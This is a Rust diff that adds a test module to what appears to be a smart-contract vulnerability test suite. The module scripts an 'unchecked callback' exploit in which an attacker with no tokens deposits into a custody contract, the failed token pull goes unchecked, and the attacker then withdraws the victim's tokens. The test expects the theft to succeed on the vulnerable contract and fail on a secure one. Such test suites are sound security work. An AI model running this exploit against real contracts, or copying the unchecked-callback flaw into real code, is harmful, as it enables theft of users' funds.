@@ -0,0 +1,79 @@
+//! A failed pull still credits custody; the credit withdraws real tokens
+
+use anyhow::{ensure, Result as AnyResult};
+use serde_json::json;
+
+use crate::{ExploitSpec, Sandbox, CONTRACT_BALANCE};
+
+pub const SPEC: ExploitSpec = ExploitSpec {
+    example: "unchecked_callback",
+    description: "Deposit without an allowance, then withdraw the victim's tokens",
+    must_succeed: || Box::pin(attack("unchecked_callback")),
+    must_fail: || Box::pin(attack("unchecked_callback_secure")),
+    rejection: "Insufficient balance",
+};
+
+const AMOUNT: u128 = 1_000;
+
+async fn attack(contract: &'static str) -> AnyResult<()> {
+    let s = Sandbox::new().await?;
+    let bank = s
+        .deploy(
+            "mock_bank",
+            "bank",
+            CONTRACT_BALANCE,
+            json!({ "holders": [[s.victim.id(), AMOUNT.to_string()]] }),
+        )
+        .await?;
+    let custody = s
+        .deploy(
+            contract,
+            "custody",
+            CONTRACT_BALANCE,
+            json!({ "bank": bank.id() }),
+        )
+        .await?;
+
+    // The victim deposits properly: approve, then pull
+    s.victim
+        .call(bank.id(), "approve")
+        .args_json(json!({ "spender_id": custody.id(), "amount": AMOUNT.to_string() }))
+        .transact()
+        .await?
+        .into_result()?;
+    s.victim
+        .call(custody.id(), "deposit")
+        .args_json(json!({ "amount": AMOUNT.to_string() }))
+        .max_gas()
+        .transact()
+        .await?
+        .into_result()?;
+
+    // The attacker owns no tokens and grants no allowance; transfer_from
+    // fails inside the promise chain, which the call itself survives
+    let _ = s
+        .attacker
+        .call(custody.id(), "deposit")
+        .args_json(json!({ "amount": AMOUNT.to_string() }))
+        .max_gas()
+        .transact()
+        .await?;
+    s.attacker
+        .call(custody.id(), "withdraw")
+        .args_json(json!({ "amount": AMOUNT.to_string() }))
+        .max_gas()
+        .transact()
+        .await?
+        .into_result()?;
+
+    let stolen: String = bank
+        .view("balance_of")
+        .args_json(json!({ "account_id": s.attacker.id() }))
+        .await?
+        .json()?;
+    ensure!(
+        stolen == AMOUNT.to_string(),
+        "attacker holds {stolen} of the victim's {AMOUNT}"
+    );
+    Ok(())
+}